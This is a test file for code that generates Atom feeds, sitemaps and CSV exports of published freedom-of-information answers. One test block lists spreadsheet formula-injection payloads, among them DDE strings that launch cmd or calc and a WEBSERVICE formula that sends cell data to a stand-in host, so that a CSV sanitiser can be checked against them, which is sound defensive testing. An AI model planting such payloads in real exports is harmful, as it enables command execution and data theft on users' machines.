import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutral } from '#domain/csv.ts';
import { type TakeAwayWords, takeAwayFiles } from '#domain/publication/take-away/files.ts';
import type { LogLine } from '#domain/publication/take-away/log.ts';
import { atomFaults, atoms, deleted, links, parseXml } from '#tests/support/atom.ts';

const origin = 'https://foi.example';
const words: TakeAwayWords = {
  origin,
  title: 'Published answers – Testshire & Co',
  author: 'Testshire',
  language: 'en',
  outcome: (outcome) => `outcome ${outcome}`,
  ground: (id) => `ground ${id}`,
  schemeClass: (id) => `class ${id}`,
  columns: {
    ...{ reference: 'Reference', title: 'Title', published: 'Published on', outcome: 'Outcome' },
    ...{ grounds: 'Withheld under', topics: 'Topics', address: 'Address', schemeClass: 'Class' },
  },
};
const line = (reference: string, publishedOn: string, more: Partial<LogLine> = {}): LogLine => ({
  ...{ reference, publishedOn, title: `About ${reference}`, outcome: 'granted-in-full', summaryLine: 'How many?' },
  // What was taken down is told by the log of withdrawals as well.
  ...(more.action === 'remove' ? { withdrawals: [{ from: publishedOn }] } : {}),
  ...{ action: 'put', ...more },
});
/** The files by their keys, of a publication on a day. */
const filesOf = (lines: readonly LogLine[], day: string) =>
  Object.fromEntries(takeAwayFiles(words, lines, day, '2030-01-01').map(({ key, body }) => [key, body]));
/** Every file there is, as if each day of the journal were published once more, in an order. */
const all = (lines: readonly LogLine[], days = [...new Set(lines.map(({ publishedOn }) => publishedOn))]) =>
  Object.assign({}, ...days.map((day) => filesOf(lines, day))) as Record<string, string | null>;
const locations = (xml: string) => parseXml(xml).children.map(({ children }) => children[0]?.text);

describe('the feed', () => {
  const lines = [
    line('01', '2025-12-30', { changedAt: '2025-12-30T09:30:00.000Z' }),
    line('02', '2026-01-05', {
      ...{ title: '<Salt> & “grit” \u0001\ud800', grounds: ['s40'], topics: ['Roads', ''], summaryLine: '' },
    }),
    line('03', '2026-01-05'),
    line('04', '2026-02-01', { title: ' ' }),
    line('03', '2026-01-05', { action: 'remove', title: '', changedAt: '2026-02-03T10:00:00.000Z' }),
    line('01', '2025-12-30', { changedAt: '2026-02-02T09:30:00.000Z' }),
  ];
  const files = all(lines);
  const entriesOf = (key: string) =>
    atoms(parseXml(files[key] ?? ''), 'entry').map((entry) => atoms(entry, 'id')[0]?.text.split('/').at(-2));

  it('keeps the rules of Atom, of its archives and of what was deleted', () => {
    for (const [key, body] of Object.entries(files))
      if (key.endsWith('feed.xml')) expect(atomFaults(body!)).toEqual([]);
  });

  it('begins with what changed last, and tells what was withdrawn', () => {
    expect(entriesOf('disclosures/feed.xml')).toEqual(['01', '04', '02']);
    const feed = parseXml(files['disclosures/feed.xml']!);
    expect(deleted(feed).map(({ attributes }) => attributes)).toEqual([
      { ref: `${origin}/disclosures/03/`, when: '2026-02-03T10:00:00.000Z' },
    ]);
    expect(atoms(feed, 'updated')[0]?.text).toBe('2026-02-03T10:00:00.000Z');
  });

  it('tells of each of hundreds that were taken down at once', () => {
    const many = Array.from({ length: 400 }, (_, i) => line(String(i), '2026-01-05'));
    const gone = many.map(({ reference }) =>
      line(reference, '2026-01-05', { action: 'remove', changedAt: '2026-02-03T10:00:00.000Z' }),
    );
    const feed = filesOf([...many, ...gone], '2026-01-05')['disclosures/feed.xml']!;
    expect(atomFaults(feed)).toEqual([]);
    expect(deleted(parseXml(feed))).toHaveLength(400);
  });

  it('is complete: from archive to archive to the first month', () => {
    const seen: (string | undefined)[] = [];
    let next: string | undefined = `${origin}/disclosures/feed.xml`;
    while (next !== undefined) {
      const key: string = next.slice(origin.length + 1);
      seen.push(...entriesOf(key));
      [next] = links(parseXml(files[key]!), 'prev-archive');
    }
    expect([...new Set(seen)].sort()).toEqual(['01', '02', '04']);
  });

  it('says of an answer what lists say of it', () => {
    const [entry] = atoms(parseXml(files['disclosures/2026/01/feed.xml']!), 'entry');
    const text = (local: string) => atoms(entry!, local).map((node) => node.text);
    expect(text('title')).toEqual(['<Salt> & “grit” \ufffd']);
    expect([text('published'), text('updated'), text('summary')]).toEqual([
      ['2026-01-05T00:00:00.000Z'],
      ['2026-01-05T00:00:00.000Z'],
      [],
    ]);
    expect(links(entry!, 'alternate')).toEqual([
      `${origin}/disclosures/02/`,
      `${origin}/disclosures/02/disclosure.json`,
    ]);
    expect(atoms(entry!, 'category').map(({ attributes }) => [attributes['term'], attributes['label']])).toEqual([
      ['granted-in-full', 'outcome granted-in-full'],
      ['s40', 'ground s40'],
      ['Roads', undefined],
    ]);
    expect(atoms(atoms(parseXml(files['disclosures/feed.xml']!), 'entry')[1]!, 'title')[0]?.text).toBe('04');
  });

  it('keeps the archive of a month of which nothing stands, so that the way to those before it stays', () => {
    const emptied = filesOf([...lines, line('02', '2026-01-05', { action: 'remove' })], '2026-01-05');
    const archive = emptied['disclosures/2026/01/feed.xml']!;
    expect(atomFaults(archive)).toEqual([]);
    expect(links(parseXml(archive), 'prev-archive')).toEqual([`${origin}/disclosures/2025/12/feed.xml`]);
    expect(emptied['disclosures/2026/01/sitemap.xml']).toBeNull();
  });
});

it('an index of no sitemaps is a sitemap of the lists: neither may be empty', () => {
  const nothing = filesOf([], '2026-01-05')['disclosures/sitemap.xml']!;
  expect(nothing).toMatch(/<urlset [^>]*>\s*<url>/);
  expect(nothing).not.toContain('sitemapindex');
  expect(locations(nothing)).toEqual([`${origin}/disclosures/`]);
});

describe('what is taken away as a whole', () => {
  it('maps every answer, month by month, with when it last changed', () => {
    const files = all([
      line('01', '2025-12-30'),
      line('02', '2026-01-05', { changedAt: '2026-01-07T09:30:00.000Z' }),
      line('03', '2026-01-06'),
    ]);
    expect(locations(files['disclosures/sitemap.xml']!)).toEqual([
      `${origin}/disclosures/2025/12/sitemap.xml`,
      `${origin}/disclosures/2026/01/sitemap.xml`,
    ]);
    const january = parseXml(files['disclosures/2026/01/sitemap.xml']!);
    expect(january.children.map(({ children }) => children.map(({ text }) => text))).toEqual([
      [`${origin}/disclosures/03/`, '2026-01-06T00:00:00.000Z'],
      [`${origin}/disclosures/02/`, '2026-01-07T09:30:00.000Z'],
    ]);
  });

  it('maps no more answers in one file than a sitemap may hold', () => {
    const many = Array.from({ length: 50_001 }, (_, i) => line(String(i).padStart(6, '0'), '2026-01-05'));
    const files = filesOf(many, '2026-01-05');
    const count = (xml: string) => xml.split('<url>').length - 1;
    expect(count(files['disclosures/2026/01/sitemap.xml']!)).toBe(50_000);
    expect(count(files['disclosures/2026/01/sitemap-2.xml']!)).toBe(1);
    expect(files['disclosures/2026/01/sitemap-3.xml']).toBeNull();
    expect(locations(files['disclosures/sitemap.xml']!)).toHaveLength(2);
    expect(filesOf(many.slice(1), '2026-01-05')['disclosures/2026/01/sitemap-2.xml']).toBeNull();
  });

  it('lists a year as a table that no spreadsheet runs', () => {
    const lines = [
      line('01', '2026-01-05', { title: '=HYPERLINK("x")', grounds: ['s40', 's31'], topics: ['Roads', 'Salt'] }),
      line('02', '2026-02-01', { schemeClass: 'lists' }),
      line('03', '2025-02-01'),
    ];
    expect(filesOf(lines, '2026-01-05')['disclosures/2026/disclosures.csv']).toBe(
      [
        '\uFEFFReference,Title,Published on,Outcome,Withheld under,Topics,Address,Class',
        `02,About 02,2026-02-01,outcome granted-in-full,,,${origin}/disclosures/02/,class lists`,
        `01,"'=HYPERLINK(""x"")",2026-01-05,outcome granted-in-full,ground s40; ground s31,Roads; Salt,${origin}/disclosures/01/,`,
        '',
      ].join('\r\n'),
    );
    expect(JSON.parse(filesOf(lines, '2026-01-05')['disclosures/index.json']!)).toMatchObject({
      years: [
        { year: '2026', count: 2, csv: '/disclosures/2026/disclosures.csv' },
        { year: '2025', count: 1 },
      ],
    });
  });

  it.each([
    '=1+1',
    '\u00a0@SUM(A1)',
    '-2+3+cmd|/c!A0',
    '- WEBSERVICE("https://elsewhere.example/?"&A2)',
    '- cmd|"/c calc"!A0',
    "- 'https://elsewhere.example/[a.xlsx]b'!A1",
    '\t+1x',
  ])('puts an apostrophe before %j', (cell) => {
    expect(neutral(cell)).toBe(`'${cell}`);
  });
  it('looks no longer at a cell of thousands of spaces than at any other', () => {
    // It was looked at for minutes.
    const cell = `-1${' '.repeat(5_000)}x`;
    expect(neutral(cell)).toBe(`'${cell}`);
  });
  it.each([
    '-1,204',
    '+44 20 7946 0000',
    '-£12.50',
    '- 4.5 %',
    '-1  204 ',
    '-',
    '--',
    '- not held',
    '- of which: under 18',
    'a=b',
  ])('leaves %j as it is', (cell) => expect(neutral(cell)).toBe(cell));

  const day = fc.constantFrom('2024-01-31', '2025-12-30', '2026-01-05', '2026-01-06', '2026-03-01');
  const reference = fc.constantFrom('01', '02', '03', '04');
  const instants = fc.constantFrom('2025-01-01T10:00:00.000Z', '2026-01-06T10:00:00.000Z', '2026-05-01T10:00:00.000Z');
  const aLine = fc
    .tuple(reference, day, fc.constantFrom('put', 'remove'), fc.option(instants, { nil: undefined }), fc.string())
    // An answer keeps the day on which it was first published.
    .map(([r, d, action, changedAt, title]) =>
      line(r, d, { action, title, ...(changedAt === undefined ? {} : { changedAt }) } as Partial<LogLine>),
    );

  it('is the same, to the byte, after any order of publications, withdrawals and corrections as made anew', () => {
    fc.assert(
      fc.property(fc.array(aLine, { minLength: 1, maxLength: 12 }), (drawn) => {
        const days = new Map<string, string>();
        const lines = drawn.map((one) => {
          const publishedOn = days.get(one.reference) ?? one.publishedOn;
          days.set(one.reference, publishedOn);
          return { ...one, publishedOn };
        });
        // As publishing goes: a line, then the files of its day.
        const grown: Record<string, string | null> = {};
        for (const [i, { publishedOn }] of lines.entries())
          Object.assign(grown, filesOf(lines.slice(0, i + 1), publishedOn));
        const there = (files: object) => Object.entries(files).filter(([, body]) => body !== null);
        expect(Object.fromEntries(there(grown))).toEqual(Object.fromEntries(there(all(lines))));
        for (const [key, body] of Object.entries(grown))
          if (key.endsWith('feed.xml')) expect(atomFaults(body!)).toEqual([]);
      }),
    );
  });

  it('touches so many files at a publication, and no more, however many were published before', () => {
    const months = Array.from({ length: 240 }, (_, i) =>
      line(String(i), `${2000 + Math.floor(i / 12)}-${String((i % 12) + 1).padStart(2, '0')}-05`),
    );
    expect(Object.keys(filesOf(months, '2010-05-05'))).toEqual(
      Object.keys(filesOf(months.slice(124, 126), '2010-05-05')),
    );
  });
});
